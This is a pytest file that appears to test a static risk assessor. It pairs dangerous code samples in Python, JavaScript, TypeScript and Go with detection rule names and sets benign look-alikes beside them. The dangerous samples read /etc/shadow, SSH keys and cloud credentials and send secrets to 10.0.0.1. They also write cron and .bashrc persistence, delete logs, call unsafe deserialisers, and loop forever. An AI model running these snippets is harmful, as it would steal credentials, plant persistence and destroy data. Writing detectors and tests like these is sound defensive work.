# ruff: noqa: E501
"""The threat classes of issue 13, rule by rule in each language where they apply: host secrets
by path (and sent out), writes that persist or destroy outside the working directory, unsafe
deserialisation, calls without a call expression, and loops built never to end. Each dangerous
shape names its rule and scores at least HIGH; each benign neighbour stays below HIGH."""

from __future__ import annotations

import pytest
from rule_findings import rules

from hazmat.assess.assessor import Assessor
from hazmat.models import RiskLevel

DANGEROUS = [
    # host secrets by path, through open / pathlib / os.ReadFile / fs.readFileSync
    ("python", "print(open('/etc/shadow').read())", "secret-read"),
    (
        "python",
        "import os\np = os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')\n"
        "with open(p) as f:\n    print(f.read())",
        "secret-read",
    ),
    (
        "python",
        "from pathlib import Path\nprint((Path.home() / '.aws' / 'credentials').read_text())",
        "secret-read",
    ),
    (
        "python",
        "import socket\ns = socket.create_connection(('10.0.0.1', 80))\n"
        "s.sendall(open('/proc/1/environ', 'rb').read())",
        "secret-exfiltration",
    ),
    (
        "javascript",
        "const fs = require('fs'), os = require('os'), path = require('path');\n"
        "console.log(fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8'));",
        "secret-read",
    ),
    (
        "typescript",
        "import * as fs from 'fs';\nconst env: Buffer = fs.readFileSync('/proc/1/environ');\n"
        "fetch('http://10.0.0.1/c', { method: 'POST', body: env });",
        "secret-exfiltration",
    ),
    (
        "go",
        'package main\nimport ("fmt"; "os")\nfunc main() {\n\tb, _ := os.ReadFile("/etc/shadow")\n'
        "\tfmt.Println(string(b))\n}\n",
        "secret-read",
    ),
    (
        "python",
        "from pathlib import Path\nprint(Path('/etc').joinpath('shadow').read_text())",
        "secret-read",
    ),
    (
        "python",
        "import os\nhome = os.path.expanduser('~')\nprint(open('{}/.ssh/id_rsa'.format(home)).read())",
        "secret-read",
    ),
    (
        "python",
        "import os\nhome = os.environ['HOME']\nprint(open(f'{home}/.aws/credentials').read())",
        "secret-read",
    ),
    (
        "go",
        'package main\nimport ("fmt"; "os")\nfunc main() {\n\th, _ := os.UserHomeDir()\n\tb, _ := os.ReadFile(fmt.Sprintf("%s/.ssh/id_rsa", h))\n\tfmt.Println(len(b))\n}\n',
        "secret-read",
    ),
    (
        "typescript",
        "import * as fs from 'fs';\nimport * as os from 'os';\nconsole.log(fs.readFileSync(`${os.homedir()}/.docker/config.json`, 'utf8'));",
        "secret-read",
    ),
    # a value set after the function that uses it
    (
        "python",
        "def read():\n    return open(KEY).read()\n\nKEY = '/root/.ssh/id_rsa'\nprint(read())",
        "secret-read",
    ),
    (
        "javascript",
        "function r() { return require('fs').readFileSync(KEY); }\nconst KEY = '/etc/shadow';\nconsole.log(r());",
        "secret-read",
    ),
    # destructive or persistent file operations outside the working directory
    (
        "python",
        "open('/etc/cron.d/job', 'w').write('* * * * * root sh /tmp/x\\n')",
        "persistence-write",
    ),
    (
        "python",
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x\\n')",
        "persistence-write",
    ),
    ("python", "import shutil\nshutil.rmtree('/var/log')", "destroy-evidence"),
    (
        "python",
        "import os\np = os.path.join(os.getcwd(), '../../..', 'etc', 'hosts')\nprint(open(p).read())",
        "path-traversal",
    ),
    (
        "javascript",
        "require('fs').writeFileSync('/etc/cron.d/x', '* * * * * root id\\n');",
        "persistence-write",
    ),
    (
        "typescript",
        "import { rmSync } from 'fs';\nrmSync('/var/log', { recursive: true });",
        "destroy-evidence",
    ),
    (
        "go",
        'package main\nimport "os"\nfunc main() {\n\tf, _ := os.OpenFile(os.Getenv("HOME")+"/.bashrc", '
        'os.O_APPEND|os.O_WRONLY, 0644)\n\tf.WriteString("x")\n}\n',
        "persistence-write",
    ),
    ("python", "import os\nos.remove('/usr/bin/python3')", "outside-delete"),
    # unsafe deserialisation
    (
        "python",
        "import yaml\ncfg = yaml.load(open('c.yml'), Loader=yaml.Loader)",
        "unsafe-deserialization",
    ),
    ("python", "import yaml\nyaml.unsafe_load(open('c.yml'))", "unsafe-deserialization"),
    ("python", "import dill\ndill.loads(open('m.bin', 'rb').read())", "unsafe-deserialization"),
    (
        "javascript",
        "const s = require('node-serialize');\ns.unserialize(process.argv[2]);",
        "unsafe-deserialization",
    ),
    (
        "python",
        "import pickle\nwith open('m.bin', 'rb') as f:\n    model = pickle.Unpickler(f).load()",
        "unsafe-deserialization",
    ),
    (
        "python",
        "from ruamel.yaml import YAML\ndoc = YAML(typ='unsafe').load(open('x.yml'))",
        "unsafe-deserialization",
    ),
    (
        "typescript",
        "const keep: number[][] = [];\ndo { keep.push(new Array(1e6).fill(0)); } while (true);",
        "unbounded-allocation",
    ),
    # calls without a call expression
    ("python", "@exec\n@input\ndef f():\n    pass", "decorator-call"),
    ("python", "@lambda _: __import__('os').system('id')\nclass X:\n    pass", "decorator-call"),
    ("python", "list(map(exec, ['print(1)']))", "evaluator-value"),
    ("typescript", "@eval\nclass X {}", "decorator-call"),
    # resource exhaustion by design
    (
        "python",
        "def grow():\n    keep = []\n    while True:\n        b = bytearray(1 << 20)\n"
        "        for i in range(0, len(b), 4096):\n            b[i] = 1\n        keep.append(b)\ngrow()",
        "unbounded-allocation",
    ),
    (
        "python",
        "def spin():\n    for _ in iter(int, 1):\n        pass\nspin()",
        "infinite-iterator",
    ),
    (
        "typescript",
        "const keep: Buffer[] = [];\nwhile (true) { keep.push(Buffer.alloc(1 << 20, 1)); }",
        "unbounded-allocation",
    ),
    ("javascript", "function spin() { for (;;) {} }\nspin();", "infinite-loop"),
    ("python", "n = 0\nwhile True:\n    n += 1", "infinite-loop"),  # a count, not memory
    ("python", "s = ''\nwhile True:\n    s += 'x'", "unbounded-allocation"),
    (
        "go",
        "package main\nfunc main() {\n\tvar keep [][]byte\n\tfor {\n\t\tkeep = append(keep, make([]byte, 1<<20))\n\t}\n}\n",
        "unbounded-allocation",
    ),
]

BENIGN = [
    (
        "python",
        "import pandas as pd\ndf = pd.DataFrame({'a': [1, 2]})\ndf.to_csv('out.csv')\nopen('/mnt/data/summary.txt', 'w').write('2 rows')",
    ),
    (
        "python",
        "from ruamel.yaml import YAML\ndoc = YAML(typ='safe').load(open('x.yml'))\nprint(doc)",
    ),
    ("typescript", "let tries = 0;\ndo { tries++; } while (tries < 3);\nconsole.log(tries);"),
    ("python", "import yaml\ncfg = yaml.safe_load(open('config.yml'))\nprint(cfg)"),
    ("python", "import yaml\nprint(yaml.load(open('a.yml'), Loader=yaml.SafeLoader))"),
    (
        "python",
        "import os\nos.makedirs('out', exist_ok=True)\nwith open('out/r.txt', 'w') as f:\n    f.write('x')\nos.remove('out/r.txt')",
    ),
    ("python", "while True:\n    line = input()\n    if not line:\n        break\n    print(line)"),
    (
        "python",
        "data = bytearray(200 * 1024 * 1024)\nfor i in range(0, len(data), 4096):\n    data[i] = 1\nprint(len(data))",
    ),
    ("python", "def fact(n):\n    return 1 if n < 2 else n * fact(n - 1)\nprint(fact(50))"),
    (
        "python",
        "class A:\n    @property\n    def x(self):\n        return 1\n    @staticmethod\n    def y():\n        return 2",
    ),
    ("python", "open('/tmp/cache.json', 'w').write('{}')"),
    (
        "javascript",
        "const fs = require('fs');\nfs.mkdirSync('out', { recursive: true });\nfs.writeFileSync('out/r.json', '{}');",
    ),
    ("javascript", "let i = 0;\nwhile (true) { i++; if (i > 10) break; }\nconsole.log(i);"),
    (
        "typescript",
        "import * as fs from 'fs';\nconst rows: string[] = fs.readFileSync('input.csv', 'utf8').split('\\n');\nconsole.log(rows.length);",
    ),
    (
        "go",
        'package main\nimport ("fmt"; "os")\nfunc main() {\n\tb, _ := os.ReadFile("data.txt")\n\tfmt.Println(len(b))\n}\n',
    ),
    (
        "go",
        'package main\nimport "fmt"\nfunc main() {\n\ti := 0\n\tfor {\n\t\ti++\n\t\tif i > 3 {\n\t\t\tbreak\n\t\t}\n\t}\n\tfmt.Println(i)\n}\n',
    ),
]


@pytest.mark.parametrize(("language", "code", "rule"), DANGEROUS)
def test_each_class_is_seen_and_at_least_high(
    assessor: Assessor, language: str, code: str, rule: str
) -> None:
    assert rule in rules(code, language), rules(code, language)
    assessment = assessor.assess(code, language)
    assert assessment.level.rank >= RiskLevel.HIGH.rank, assessment.findings


@pytest.mark.parametrize(("language", "code"), BENIGN)
def test_benign_neighbours_stay_below_high(assessor: Assessor, language: str, code: str) -> None:
    assessment = assessor.assess(code, language)
    assert assessment.level.rank < RiskLevel.HIGH.rank, assessment.findings


def test_a_secret_read_that_is_sent_out_scores_higher_than_either_alone() -> None:
    read = "data = open('/etc/shadow').read()\nprint(len(data))"
    send = "import socket\ns = socket.create_connection(('10.0.0.1', 80))\ns.sendall(b'x')"
    both = "import socket\ndata = open('/etc/shadow').read()\n" + send.split("\n", 1)[1]
    assert "secret-exfiltration" not in rules(read) and "secret-exfiltration" not in rules(send)
    assert "secret-exfiltration" in rules(both)
